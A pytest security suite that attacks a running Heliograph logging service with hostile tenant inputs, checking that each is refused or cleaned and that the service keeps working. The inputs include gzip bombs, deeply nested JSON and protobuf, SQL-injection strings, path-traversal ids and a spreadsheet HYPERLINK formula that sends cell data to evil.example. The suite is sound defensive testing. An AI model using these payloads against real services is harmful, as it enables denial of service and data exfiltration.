"""An attacker's pass over the Helicone-compatibility surface: async-log routes on both
ports, OTLP ingest and export, the REST long tail, price overrides, saved SQL queries and the
Helicone import, against a real running Heliograph. Each check is what a hostile tenant or a
careless client would send; after each, the service must still answer and a normal request
through the gateway must still be logged."""

from __future__ import annotations

import asyncio
import csv
import gzip
import hashlib
import io
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import orjson
import pytest
from click.testing import CliRunner
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import (
    ExportTraceServiceRequest,
)
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue

from conftest import Fake, Heliograph, heliograph_settings, start_heliograph
from heliograph.analytics.chdb_executor import ChdbExecutor
from heliograph.analytics.store import AnalyticsStore
from heliograph.cli.main import cli
from heliograph.domain.access import KeyPermissions
from heliograph.domain.keys import generate_key
from heliograph.ingest.otlp_export import OtlpConfig
from heliograph.settings import InvalidSetting
from test_helicone_import import requests, run_import, write_exports, write_keys

CHAT = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}
PROTOBUF = {"Content-Type": "application/x-protobuf"}
JSON = {"Content-Type": "application/json"}
MIB = 1024 * 1024
WINDOW = {"start": "2026-01-01T00:00:00Z", "end": "2026-01-02T00:00:00Z"}


# Helpers


async def send(
    url: str,
    method: str = "POST",
    data: Any = None,
    headers: dict[str, str] | None = None,
    timeout_s: float = 30,
) -> tuple[int, bytes]:
    """One raw call (bytes or an async iterator of chunks as the body); status and body."""
    timeout = aiohttp.ClientTimeout(total=timeout_s)
    async with (
        aiohttp.ClientSession(timeout=timeout) as session,
        session.request(method, url, data=data, headers=headers or {}) as response,
    ):
        return response.status, await response.read()


async def call(
    hg: Heliograph, method: str, path: str, body: Any = None, key: str | None = None
) -> tuple[int, Any]:
    """One JSON call to the API as `key` (the organization's default key when None)."""
    async with (
        aiohttp.ClientSession() as session,
        session.request(method, hg.api + path, json=body, headers=hg.auth(key)) as response,
    ):
        raw = await response.read()
        return response.status, orjson.loads(raw) if raw else None


async def still_logs(hg: Heliograph) -> None:
    """The service still answers, and a normal request through the gateway is logged."""
    async with (
        aiohttp.ClientSession() as session,
        session.post(
            f"{hg.gateway}/openai/v1/chat/completions", json=CHAT, headers=hg.gateway_auth()
        ) as response,
    ):
        assert response.status == 200, await response.text()
        request_id = response.headers["Helicone-Id"]
    row = await hg.wait_for(request_id, timeout_s=5)
    assert row["model"].startswith("gpt-4o-mini")


def async_log_body(model: str = "gpt-4o-mini", **meta: Any) -> dict[str, Any]:
    """Helicone's async-log body for one OpenAI chat call."""
    return {
        "providerRequest": {
            "url": "https://api.openai.com/v1/chat/completions",
            "json": {**CHAT, "model": model},
            "meta": meta,
        },
        "providerResponse": {
            "status": 200,
            "headers": {},
            "json": {
                "id": "chatcmpl-1",
                "model": model,
                "choices": [],
                "usage": {"prompt_tokens": 3, "completion_tokens": 2},
            },
        },
    }


async def log_async(hg: Heliograph, body: Any, key: str | None = None) -> str:
    status, answer = await call(hg, "POST", "/oai/v1/log", body, key)
    assert status == 200, answer
    return str(answer["data"]["request_id"])


def json_span(span_id: str, **attributes: Any) -> dict[str, Any]:
    """An OTLP/JSON span of one trace; attribute values typed as given (`{"doubleValue": ..}`
    passes through)."""
    start = time.time_ns() - 2_000_000_000
    values = []
    for key, value in attributes.items():
        if isinstance(value, dict):
            typed = value
        elif isinstance(value, int):
            typed = {"intValue": value}
        else:
            typed = {"stringValue": value}
        values.append({"key": key, "value": typed})
    return {
        "traceId": uuid.uuid4().hex,
        "spanId": span_id,
        "name": "llm",
        "startTimeUnixNano": str(start),
        "endTimeUnixNano": str(start + 1_000_000_000),
        "attributes": values,
    }


def otlp_json(*spans: dict[str, Any]) -> bytes:
    return orjson.dumps({"resourceSpans": [{"scopeSpans": [{"spans": list(spans)}]}]})


async def post_export(
    hg: Heliograph,
    body: bytes,
    headers: dict[str, str],
    key: str | None = None,
    timeout_s: float = 30,
) -> tuple[int, bytes]:
    url = f"{hg.api}/v1/traces"
    return await send(url, data=body, headers={**hg.auth(key), **headers}, timeout_s=timeout_s)


async def post_export_within(
    hg: Heliograph, body: bytes, headers: dict[str, str], seconds: float
) -> int:
    """The status of an export that must be answered within `seconds` (else the test fails)."""
    started = time.monotonic()
    try:
        status, _ = await post_export(hg, body, headers, timeout_s=seconds)
    except TimeoutError:
        pytest.fail(f"a {len(body) // 1024} KB export was not answered within {seconds} s")
    assert time.monotonic() - started < seconds
    return status


async def rows_of(hg: Heliograph, count: int, key: str | None = None) -> list[dict[str, Any]]:
    """The organization's requests once there are at least `count` (waits up to 5 s)."""
    deadline = time.monotonic() + 5
    while True:
        body = {"filter": "all", "limit": 100, "sort": {"created_at": "asc"}}
        status, answer = await call(hg, "POST", "/v1/request/query-clickhouse", body, key)
        assert status == 200, answer
        if len(answer["data"]) >= count or time.monotonic() > deadline:
            return list(answer["data"])
        await asyncio.sleep(0.05)


def new_key(hg: Heliograph, permissions: KeyPermissions, org_id: str | None = None) -> str:
    keys = hg.running.services.keys
    return keys.create_key(org_id or hg.organization_id, "attack", permissions).api_key


def new_routes(request_id: str, query_id: str, override_id: str) -> list[tuple[str, str, Any]]:
    """(method, path, body) for every route the compatibility work added, with valid bodies."""
    override = {"model": "gpt-attack", "input_per_mtok": "1", "output_per_mtok": "2"}
    return [
        ("POST", "/oai/v1/log", async_log_body()),
        ("POST", "/anthropic/v1/log", async_log_body()),
        ("POST", "/googleapis/v1/log", async_log_body()),
        ("POST", "/custom/v1/log", async_log_body()),
        ("POST", "/v1/traces", {"resourceSpans": []}),
        ("POST", "/v1/trace/log", {"resourceSpans": []}),
        ("PUT", f"/v1/request/{request_id}/property", {"key": "k", "value": "v"}),
        ("POST", "/v1/request/query-ids", {"requestIds": [request_id]}),
        ("GET", f"/v1/request/{request_id}/inputs", None),
        ("POST", "/v1/property/properties/over-time", {"timeFilter": WINDOW, "propertyKey": "k"}),
        ("POST", "/v1/user/metrics-overview/query", {"filter": "all"}),
        ("GET", "/v1/price-overrides", None),
        ("POST", "/v1/price-overrides", override),
        ("PATCH", f"/v1/price-overrides/{override_id}", {"input_per_mtok": "3"}),
        ("DELETE", f"/v1/price-overrides/{override_id}", None),
        ("POST", "/v1/price-overrides/recompute", {**WINDOW}),
        ("GET", "/v1/helicone-sql/saved-queries", None),
        ("GET", f"/v1/helicone-sql/saved-query/{query_id}", None),
        ("POST", "/v1/helicone-sql/saved-query", {"name": "n", "sql": "SELECT 1"}),
        ("PUT", f"/v1/helicone-sql/saved-query/{query_id}", {"name": "n", "sql": "SELECT 2"}),
        ("DELETE", f"/v1/helicone-sql/saved-query/{query_id}", None),
        ("POST", "/v1/helicone-sql/saved-queries/bulk-delete", {"ids": [query_id]}),
    ]


# The capability each route needs: W = write, R = read, C = configure.
NEEDS = {
    "/oai/v1/log": "W",
    "/anthropic/v1/log": "W",
    "/googleapis/v1/log": "W",
    "/custom/v1/log": "W",
    "/v1/traces": "W",
    "/v1/trace/log": "W",
}


def needs(method: str, path: str) -> str:
    if path in NEEDS:
        return NEEDS[path]
    if path.startswith("/v1/price-overrides"):
        return "R" if method == "GET" else "C"
    if path.startswith("/v1/helicone-sql"):
        return "R" if method == "GET" else "W"
    if path.endswith("/property"):
        return "W"
    return "R"


@pytest.fixture
async def victim(heliograph: Heliograph) -> dict[str, str]:
    """Another organization with a logged request, a saved query and a price override."""
    other_id, other_key = heliograph.new_organization("victim")
    request_id = await log_async(heliograph, async_log_body(), other_key)
    await heliograph.wait_for(request_id, key=other_key)
    status, made = await call(
        heliograph,
        "POST",
        "/v1/helicone-sql/saved-query",
        {"name": "victim query", "sql": "SELECT count() FROM request_response"},
        other_key,
    )
    assert status == 201, made
    override = {"model": "gpt-4o-mini", "input_per_mtok": "7", "output_per_mtok": "9"}
    status, priced = await call(heliograph, "POST", "/v1/price-overrides", override, other_key)
    assert status == 201, priced
    return {
        "organization_id": other_id,
        "key": other_key,
        "request_id": request_id,
        "query_id": made["data"][0]["id"],
        "override_id": priced["data"]["id"],
    }


# Keys


async def test_no_key_and_a_wrong_key_are_401_on_every_new_route(heliograph: Heliograph) -> None:
    for method, path, body in new_routes(str(uuid.uuid4()), "q", "o"):
        for headers in ({}, heliograph.auth("sk-helicone-wrong-0000000000000000")):
            async with (
                aiohttp.ClientSession() as session,
                session.request(method, heliograph.api + path, json=body, headers=headers) as r,
            ):
                assert r.status == 401, (method, path, headers, await r.text())
    # `GET /v1/models` is public by design (the published price list): no organization's data.
    status, answer = await call(heliograph, "GET", "/v1/models?q=gpt-attack", key="sk-wrong")
    assert (status, answer["data"]) == (200, [])
    # The gateway port's async-log routes pass the key on, and refuse it the same way.
    status, _ = await send(f"{heliograph.gateway}/oai/v1/log", data=orjson.dumps({}), headers=JSON)
    assert status == 401
    await still_logs(heliograph)


async def test_read_only_and_write_only_keys_stay_in_their_lane(heliograph: Heliograph) -> None:
    reader = new_key(heliograph, KeyPermissions.READ)
    writer = new_key(heliograph, KeyPermissions.WRITE)
    request_id = str(uuid.uuid4())
    for method, path, body in new_routes(request_id, "q", "o"):
        needed = needs(method, path)
        if needed != "R":
            status, answer = await call(heliograph, method, path, body, reader)
            assert status == 403, (method, path, "r key", answer)
        if needed != "W":
            status, answer = await call(heliograph, method, path, body, writer)
            assert status == 403, (method, path, "w key", answer)
    # Through the gateway port, a read-only key cannot log either.
    headers = {**JSON, "Authorization": f"Bearer {reader}"}
    url = f"{heliograph.gateway}/oai/v1/log"
    status, _ = await send(url, data=orjson.dumps(async_log_body()), headers=headers)
    assert status == 403
    status, listed = await call(heliograph, "GET", "/v1/price-overrides")
    assert (status, listed["data"]) == (200, [])
    await still_logs(heliograph)


# Other organizations


async def test_other_organizations_ids_are_not_found_on_every_new_route(
    heliograph: Heliograph, victim: dict[str, str]
) -> None:
    request_id, query_id, override_id = (
        victim["request_id"],
        victim["query_id"],
        victim["override_id"],
    )
    attempts: list[tuple[str, str, Any]] = [
        ("PUT", f"/v1/request/{request_id}/property", {"key": "stolen", "value": "yes"}),
        ("GET", f"/v1/request/{request_id}/inputs", None),
        ("GET", f"/v1/request/{request_id}", None),
        ("GET", f"/v1/helicone-sql/saved-query/{query_id}", None),
        ("PUT", f"/v1/helicone-sql/saved-query/{query_id}", {"name": "x", "sql": "SELECT 1"}),
        ("DELETE", f"/v1/helicone-sql/saved-query/{query_id}", None),
        ("PATCH", f"/v1/price-overrides/{override_id}", {"input_per_mtok": "0"}),
        ("DELETE", f"/v1/price-overrides/{override_id}", None),
    ]
    for method, path, body in attempts:
        status, answer = await call(heliograph, method, path, body)
        assert status == 404, (method, path, answer)
        assert "victim" not in str(answer)
    status, found = await call(
        heliograph, "POST", "/v1/request/query-ids", {"requestIds": [request_id]}
    )
    assert (status, found["data"]) == (200, [])
    body = {"ids": [query_id]}
    status, deleted = await call(
        heliograph, "POST", "/v1/helicone-sql/saved-queries/bulk-delete", body
    )
    assert (status, deleted["data"]) == (200, {"deleted": 0})
    status, listed = await call(heliograph, "GET", "/v1/helicone-sql/saved-queries")
    assert (status, listed["data"]) == (200, [])
    status, listed = await call(heliograph, "GET", "/v1/price-overrides")
    assert (status, listed["data"]) == (200, [])

    # Logging under the victim's request id stores our own request, never touches theirs.
    mine = await log_async(
        heliograph, async_log_body("gpt-4o", **{"Helicone-Request-Id": request_id})
    )
    assert mine == request_id
    await heliograph.wait_for(mine)
    # An override for the victim's model and a recompute in our organization leave theirs alone.
    before = await heliograph.wait_for(request_id, key=victim["key"])
    override = {"model": "gpt-4o-mini", "input_per_mtok": "1000", "output_per_mtok": "1000"}
    assert (await call(heliograph, "POST", "/v1/price-overrides", override))[0] == 201
    now = time.time()
    span = {
        "start": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now - 3600)),
        "end": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now + 3600)),
    }
    status, result = await call(heliograph, "POST", "/v1/price-overrides/recompute", span)
    assert status == 200, result

    after = await heliograph.wait_for(request_id, key=victim["key"])
    assert after["model"] == "gpt-4o-mini"
    assert after["cost"] == before["cost"]
    assert "stolen" not in after["properties"]
    status, kept = await call(
        heliograph, "GET", f"/v1/helicone-sql/saved-query/{query_id}", key=victim["key"]
    )
    assert (status, kept["data"]["name"]) == (200, "victim query")
    status, prices = await call(heliograph, "GET", "/v1/price-overrides", key=victim["key"])
    assert [(p["id"], p["input_per_mtok"]) for p in prices["data"]] == [(override_id, "7")]
    await still_logs(heliograph)


# Sizes


async def test_oversized_bodies_are_413_on_both_ports(heliograph: Heliograph) -> None:
    big = orjson.dumps({**async_log_body(), "pad": "x" * (9 * MIB)})

    async def chunks() -> AsyncIterator[bytes]:
        for start in range(0, len(big), 64 * 1024):
            yield big[start : start + 64 * 1024]

    headers = {**JSON, **heliograph.auth()}
    for origin in (heliograph.api, heliograph.gateway):
        status, _ = await send(f"{origin}/oai/v1/log", data=big, headers=headers)
        assert status == 413, origin
        status, _ = await send(f"{origin}/custom/v1/log", data=chunks(), headers=headers)
        assert status == 413, origin
    status, _ = await send(f"{heliograph.api}/v1/traces", data=chunks(), headers=headers)
    assert status == 413
    await still_logs(heliograph)


async def test_a_multi_member_gzip_bomb_is_413_at_once(heliograph: Heliograph) -> None:
    """16 gzip members of 64 MiB of zeros each: 1 GiB from about 1 MiB sent."""
    member = gzip.compress(b"\0" * (64 * MIB), compresslevel=9)
    bomb = member * 16
    assert len(bomb) < 2 * MIB
    started = time.monotonic()
    status, answer = await post_export(heliograph, bomb, {**PROTOBUF, "Content-Encoding": "gzip"})
    assert status == 413, answer
    assert time.monotonic() - started < 5
    await still_logs(heliograph)


async def test_gzip_of_many_empty_members_is_answered_quickly(heliograph: Heliograph) -> None:
    """Fixed: 3 MiB of empty gzip members (20 bytes each) makes `gunzip` copy the rest of
    the body once per member (`inflater.unused_data`): quadratic, seconds of CPU per request."""
    bomb = gzip.compress(b"") * (3 * MIB // 20)
    headers = {**PROTOBUF, "Content-Encoding": "gzip"}
    assert await post_export_within(heliograph, bomb, headers, 3) in (200, 400, 413)
    await still_logs(heliograph)


async def test_a_small_compressed_json_export_costs_no_more_than_a_few_seconds(
    heliograph: Heliograph,
) -> None:
    """Fixed: 200 KB of gzip inflates to 28 MB of OTLP/JSON (under the 32 MiB cap), which
    `json_format.ParseDict` takes about 7 s of CPU to read, though no span in it is an LLM call."""
    spans = [
        {
            "traceId": "0" * 31 + "1",
            "spanId": f"{i:016x}",
            "name": "s",
            "startTimeUnixNano": "1700000000000000000",
            "attributes": [{"key": f"k{j}", "value": {"stringValue": "v"}} for j in range(8)],
        }
        for i in range(60_000)
    ]
    body = gzip.compress(orjson.dumps({"resourceSpans": [{"scopeSpans": [{"spans": spans}]}]}))
    assert len(body) < 400 * 1024
    headers = {**JSON, "Content-Encoding": "gzip"}
    assert await post_export_within(heliograph, body, headers, 3) in (200, 400, 413)
    await still_logs(heliograph)


# OTLP exports that could break a row


def _field(number: int, payload: bytes) -> bytes:
    """One length-delimited protobuf field."""
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def deeply_nested_export(depth: int) -> bytes:
    """An export whose one LLM span has an attribute `depth` kvlists deep, written by hand
    (the protobuf library refuses to build one past 100 levels)."""
    value = AnyValue(string_value="bottom").SerializeToString()
    for _ in range(depth):  # AnyValue.kvlist_value(6) > KeyValueList.values(1) > KeyValue
        value = _field(6, _field(1, _field(1, b"k") + _field(2, value)))
    span = ExportTraceServiceRequest().resource_spans.add().scope_spans.add().spans.add()
    span.trace_id, span.span_id, span.name = uuid.uuid4().bytes, b"\x02" * 8, "llm"
    span.start_time_unix_nano = time.time_ns()
    span.attributes.append(KeyValue(key="gen_ai.request.model", value=AnyValue(string_value="m")))
    span_bytes = span.SerializeToString() + _field(9, _field(1, b"deep") + _field(2, value))
    return _field(1, _field(2, _field(2, span_bytes)))


async def test_malformed_and_deeply_nested_exports_are_4xx(heliograph: Heliograph) -> None:
    deep_json = b'{"resourceSpans": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    deep_attribute = otlp_json(
        json_span("0000000000000001", **{"gen_ai.request.model": "m"})
    ).replace(b'"attributes":[', b'"attributes":[' + b"[" * 3000 + b"]" * 3000 + b",", 1)
    deep_protobuf = deeply_nested_export(150)
    cases: list[tuple[bytes, dict[str, str], tuple[int, ...]]] = [
        (deep_json, JSON, (400,)),
        (deep_attribute, JSON, (400,)),
        (b'{"resourceSpans": "\xff\xfe"}', JSON, (400,)),
        (b'{"resourceSpans": [{"scopeSpans": [{"spans": [{"spanId": 5}]}]}]}', JSON, (400,)),
        (b"\x0a\x05\x0a\x03\x0a\x01", PROTOBUF, (400,)),  # lengths that run past the end
        (b"\x0f" * 64, PROTOBUF, (400,)),  # wire type 7
        (deep_protobuf, PROTOBUF, (200, 400)),  # past protobuf's 100 levels: either, never 500
        (b"", PROTOBUF, (200,)),
    ]
    for body, headers, expected in cases:
        status, answer = await post_export(heliograph, body, headers)
        assert status in expected, (body[:60], status, answer)
    await still_logs(heliograph)


async def test_hostile_span_values_are_cleaned_capped_or_refused_one_by_one(
    heliograph: Heliograph,
) -> None:
    nul_model = json_span(
        "0000000000000001",
        **{
            "gen_ai.request.model": "gpt\u0000-4o-mini",
            "gen_ai.usage.input_tokens": -5,
            "gen_ai.usage.output_tokens": "-7",
            "prop\u0000erty": "va\u0000lue",
            "gen_ai.provider.name": "'; DROP TABLE request_response; --",
        },
    )
    far_future = json_span("0000000000000002", **{"gen_ai.request.model": "gpt-4o"})
    far_future["startTimeUnixNano"] = str(16_725_225_600 * 10**9)  # 2500: near uint64's end
    far_future["endTimeUnixNano"] = far_future["startTimeUnixNano"]
    ends_in_9999 = json_span("0000000000000003", **{"gen_ai.request.model": "gpt-4o"})
    ends_in_9999["endTimeUnixNano"] = str(16_725_225_600 * 10**9)
    many = json_span(
        "0000000000000004",
        **{"gen_ai.request.model": "many", **{f"a{i}": "v" for i in range(20_000)}},
    )
    body = otlp_json(nul_model, far_future, ends_in_9999, many)
    status, answer = await post_export(heliograph, body, JSON)
    assert status == 200, answer
    response = orjson.loads(answer)
    assert response["partialSuccess"]["rejectedSpans"] == "2"
    assert "1970 and 2200" in response["partialSuccess"]["errorMessage"]
    rows = {row["model"]: row for row in await rows_of(heliograph, 2)}
    assert set(rows) == {"gpt-4o-mini", "many"}
    cleaned = rows["gpt-4o-mini"]
    assert cleaned["properties"]["otel.property"] == "value"
    assert cleaned["prompt_tokens"] in (None, 0)
    assert cleaned["completion_tokens"] in (None, 0)
    assert cleaned["provider"] == "'; DROP TABLE REQUEST_RESPONSE; --"
    assert len(rows["many"]["properties"]) == 64
    await still_logs(heliograph)


async def test_token_counts_near_int64_are_refused_or_stored_not_lost(
    heliograph: Heliograph,
) -> None:
    """A span may count up to 2**63 - 1 tokens (`_count` in `ingest/otlp_records.py`); at
    gpt-4o's price that is about 2e22 nano-USD, past the `cost UInt64` column. The span must be
    refused in `partialSuccess`, or stored with a cost that fits: never answered 200 and then
    dropped at insert."""
    huge = json_span(
        "0000000000000001",
        **{
            "gen_ai.request.model": "gpt-4o",
            "gen_ai.provider.name": "openai",
            "gen_ai.usage.input_tokens": 9_000_000_000_000_000_000,
            "gen_ai.usage.output_tokens": 9_000_000_000_000_000_000,
        },
    )
    status, answer = await post_export(heliograph, otlp_json(huge), JSON)
    assert status in (200, 400), answer
    rejected = int(orjson.loads(answer).get("partialSuccess", {}).get("rejectedSpans", 0))
    await still_logs(heliograph)  # the batch after it is stored
    stored = [row for row in await rows_of(heliograph, 2) if row["model"] == "gpt-4o"]
    if status == 200 and not rejected:
        assert len(stored) == 1, "answered 200, yet the span was never stored"
        assert 0 <= stored[0]["cost"] < 2**64 / 1e9
        assert stored[0]["prompt_tokens"] >= 0
    status, totals = await call(heliograph, "POST", "/v1/request/count/query", {"filter": "all"})
    assert status == 200, totals


async def test_an_infinite_time_to_first_token_is_not_a_500(heliograph: Heliograph) -> None:
    """Fixed: `gen_ai.response.time_to_first_chunk` as the double Infinity reaches
    `int(seconds * 1000)` in `ingest/otlp.py` `_time_to_first_token`: OverflowError, a 500, and
    the export's other spans are lost with it."""
    infinite = json_span(
        "0000000000000001",
        **{
            "gen_ai.request.model": "gpt-4o-mini",
            "gen_ai.response.time_to_first_chunk": {"doubleValue": "Infinity"},
        },
    )
    fine = json_span("0000000000000002", **{"gen_ai.request.model": "gpt-4o"})
    status, answer = await post_export(heliograph, otlp_json(infinite, fine), JSON)
    assert status in (200, 400), answer
    if status == 200:
        assert "gpt-4o" in {row["model"] for row in await rows_of(heliograph, 1)}
    # The same through protobuf.
    export = ExportTraceServiceRequest()
    span = export.resource_spans.add().scope_spans.add().spans.add()
    span.trace_id, span.span_id, span.name = uuid.uuid4().bytes, b"\x03" * 8, "llm"
    span.start_time_unix_nano = time.time_ns()
    span.attributes.append(KeyValue(key="gen_ai.request.model", value=AnyValue(string_value="m")))
    ttft = AnyValue(double_value=float("inf"))
    span.attributes.append(KeyValue(key="gen_ai.server.time_to_first_token", value=ttft))
    status, answer = await post_export(heliograph, export.SerializeToString(), PROTOBUF)
    assert status in (200, 400), answer
    await still_logs(heliograph)


# Async logs


async def test_async_logs_with_hostile_values_are_cleaned_or_a_clear_400(
    heliograph: Heliograph,
) -> None:
    cleaned = async_log_body(
        "gpt-4o\u0000-mini\ud800",
        **{"Helicone-Property-Te\u0000am": "a\u0000b\udcff", "Helicone-User-Id": "u\u0000"},
    )
    request_id = await log_async(heliograph, cleaned)
    row = await heliograph.wait_for(request_id)
    assert "\u0000" not in orjson.dumps(row).decode()
    assert row["properties"]["team"] == "ab\ufffd"
    assert row["request_user_id"] == "u"

    negative = async_log_body()
    negative["providerResponse"]["json"]["usage"] = {"prompt_tokens": -3, "completion_tokens": -1}
    row = await heliograph.wait_for(await log_async(heliograph, negative))
    assert (row["prompt_tokens"] or 0) >= 0
    assert (row["completion_tokens"] or 0) >= 0

    bad: list[bytes] = [
        _set(("timing",), {"startTime": {"seconds": 253402300799}, "endTime": {"seconds": 1}}),
        _set(("timing",), {"startTime": {"seconds": 1e308, "milliseconds": 0}, "endTime": 1}),
        _set(("timing",), {"startTime": -5, "endTime": 0}),
        _set(("timing",), {"startTime": 1e308, "endTime": 1e308}),
        _set(("timing",), {"startTime": "9999-12-31T00:00:00Z", "endTime": "9999-12-31"}),
        _set(("timing",), {"startTime": 1, "endTime": 2, "timeToFirstToken": -1}),
        _set(("providerResponse", "status"), 1e308),
        _set(("providerResponse", "cost"), 1e308),
        _set(("providerResponse", "cost"), -1),
        _set(("providerRequest", "json"), "not an object"),
        _set(("providerRequest", "meta"), {f"Helicone-Property-{i}": "v" for i in range(65)}),
        _set(("providerRequest", "meta"), {"Helicone-Property-x": "v" * 9000}),
        _set(("providerRequest", "url"), "u" * 9000),
        _set(("providerRequest", "json"), _nested(250)),
        b'{"providerRequest": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"providerRequest": "\xff\xfe"}',
        b"[1, 2, 3]",
        b"{",
    ]
    for text in (
        '{"timing": {"startTime": NaN, "endTime": 1}}',
        '{"timing": {"startTime": 1, "endTime": 2, "timeToFirstToken": Infinity}}',
    ):  # Python's JSON reader takes these literals
        document = orjson.loads(orjson.dumps(async_log_body()))
        bad.append(orjson.dumps(document)[:-1] + b"," + text[1:-1].encode() + b"}")
    headers = {**JSON, **heliograph.auth()}
    for body in bad:
        status, answer = await send(f"{heliograph.api}/oai/v1/log", data=body, headers=headers)
        assert 400 <= status < 500, (bad.index(body), body[-160:], status, answer)
        assert orjson.loads(answer)["error"]
    await still_logs(heliograph)


def _set(path: tuple[str, ...], value: Any) -> bytes:
    body: Any = async_log_body()
    top = body
    for part in path[:-1]:
        body = body[part]
    body[path[-1]] = value
    return orjson.dumps(top)


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {"model": "m"}
    for _ in range(depth):
        value = {"a": value}
    return value


async def test_a_large_async_log_does_not_stall_the_api_for_everyone_else(
    heliograph: Heliograph,
) -> None:
    """Fixed: `api/routes/async_log.py` calls `record_from_async_log` (which walks and
    cleans every value with `clean_json`) on the event loop; a 7.6 MiB body of small objects
    holds it about 1.5 s (after about 0.5 s in `json.loads`), so two such posts stall every
    other API call, `/v1/log/batch` from the gateway processes included."""
    items = [{"a": "x", "b": [1, 2]} for _ in range(400_000)]
    body = async_log_body()
    body["providerRequest"]["json"]["messages"] = items
    raw = orjson.dumps(body)
    assert len(raw) < 8 * MIB
    headers = {**JSON, **heliograph.auth()}

    async def big() -> int:
        status, _ = await send(f"{heliograph.api}/oai/v1/log", data=raw, headers=headers)
        return status

    posts = [asyncio.create_task(big()) for _ in range(2)]
    await asyncio.sleep(0.3)  # both bodies are in
    slowest = 0.0
    while not all(post.done() for post in posts):
        started = time.monotonic()
        status, _ = await call(heliograph, "GET", "/v1/price-overrides")
        assert status == 200
        slowest = max(slowest, time.monotonic() - started)
    assert [await post for post in posts] == [200, 200]
    # 3.7 s before the fix; 0.3 s after on a quiet machine, so 1 s leaves room for a busy one.
    assert slowest < 1.0, f"a small read waited {slowest:.2f} s behind two large async logs"
    await still_logs(heliograph)


async def test_properties_added_after_the_fact_are_capped_per_request(
    heliograph: Heliograph,
) -> None:
    """Fixed: the gateway and the async log take at most 64 properties per request, but
    `PUT /v1/request/{id}/property` adds a new key each time with no cap per request (nor on the
    rows of `request_properties`), so every read of that request merges without bound."""
    request_id = await log_async(heliograph, async_log_body())
    await heliograph.wait_for(request_id)
    path = f"/v1/request/{request_id}/property"
    statuses = []
    for number in range(70):
        status, _ = await call(heliograph, "PUT", path, {"key": f"k{number}", "value": "v"})
        statuses.append(status)
    row = await heliograph.wait_for(request_id)
    assert len(row["properties"]) <= 64, f"{len(row['properties'])} properties on one request"
    assert all(status in (200, 400, 409) for status in statuses)
    await still_logs(heliograph)


async def test_an_async_log_cannot_store_a_megabyte_model_name(heliograph: Heliograph) -> None:
    """Fixed: OTLP ingest caps a model name at 200 characters and price overrides at 256, but
    `ingest/async_log.py` `_reported` keeps `model` whole (only `clean_text`), and
    `ingest/rows.py` does not cap text columns: a 1 MB model name lands in the row, in the hourly
    rollup's key, and in every list and metric that shows models."""
    model = "m" * 1_000_000
    status, answer = await call(heliograph, "POST", "/custom/v1/log", async_log_body(model))
    if status == 200:
        row = await heliograph.wait_for(answer["data"]["request_id"])
        assert len(row["model"]) <= 256, f"a model name of {len(row['model']):,} characters"
    else:
        assert 400 <= status < 500, answer
    await still_logs(heliograph)


async def test_bytes_that_are_not_utf8_in_headers_through_the_gateway_are_cleaned(
    heliograph: Heliograph,
) -> None:
    """Raw bytes in a `Helicone-Property-*` header, sent to the gateway port's async log."""
    reader, writer = await asyncio.open_connection("127.0.0.1", heliograph.running.gateway_port)
    body = orjson.dumps(async_log_body())
    head = (
        b"POST /oai/v1/log HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        + f"Authorization: Bearer {heliograph.api_key}\r\n".encode()
        + b"Helicone-Property-Bad: \xff\xfe\x80ok\r\n"
        + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
    )
    writer.write(head + body)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    status = int(answer.split(b" ", 2)[1])
    if status == 200:
        request_id = orjson.loads(answer.split(b"\r\n\r\n", 1)[1])["data"]["request_id"]
        row = await heliograph.wait_for(request_id)
        assert row["properties"]["bad"].endswith("ok")
    else:
        assert 400 <= status < 500, answer
    await still_logs(heliograph)


# The REST long tail


async def test_added_properties_refuse_what_cannot_be_stored(heliograph: Heliograph) -> None:
    request_id = await log_async(heliograph, async_log_body())
    await heliograph.wait_for(request_id)
    path = f"/v1/request/{request_id}/property"
    refused = [
        {"key": "a\u0000b", "value": "v"},
        {"key": "k", "value": "v\u0000"},
        {"key": "k\ud800", "value": "v"},
        {"key": "k", "value": "\udcff"},
        {"key": "   ", "value": "v"},
        {"key": "", "value": "v"},
        {"key": "k" * 257, "value": "v"},
        {"key": "k", "value": "v" * 10_001},
        {"key": "k", "value": 5},
        {"key": ["k"], "value": "v"},
        {"value": "v"},
    ]
    for body in refused:
        status, answer = await call(heliograph, "PUT", path, body)
        assert 400 <= status < 500, (body if len(str(body)) < 100 else "long", status, answer)
    for bad_id in ("not-a-uuid", "../../v1/audit", "%00", "1" * 64):
        status, _ = await call(heliograph, "PUT", f"/v1/request/{bad_id}/property", refused[0])
        assert 400 <= status < 500, bad_id
    status, _ = await call(
        heliograph, "PUT", f"/v1/request/{uuid.uuid4()}/property", {"key": "k", "value": "v"}
    )
    assert status == 404

    sql_key = "x') or 1=1; drop table request_properties; --"  # keys are stored lower-cased
    formula = '=HYPERLINK("http://evil.example/"&A1)'
    for key, value in ((sql_key, "v"), ("formula", formula)):
        status, answer = await call(heliograph, "PUT", path, {"key": key, "value": value})
        assert status == 200, answer
    row = await heliograph.wait_for(request_id)
    assert row["properties"][sql_key] == "v"
    assert row["properties"]["formula"] == formula
    status, found = await call(
        heliograph,
        "POST",
        "/v1/request/query",
        {"filter": {"properties": {sql_key: {"equals": "v"}}}, "limit": 10},
    )
    assert status == 200, found
    assert [r["request_id"] for r in found["data"]] == [request_id]
    status, exported = await send(
        f"{heliograph.api}/v1/request/export",
        data=orjson.dumps({"format": "csv"}),
        headers={**JSON, **heliograph.auth()},
    )
    assert status == 200
    cells = [cell for line in csv.reader(io.StringIO(exported.decode())) for cell in line]
    assert any("HYPERLINK" in cell for cell in cells)  # exported, inside the properties' JSON
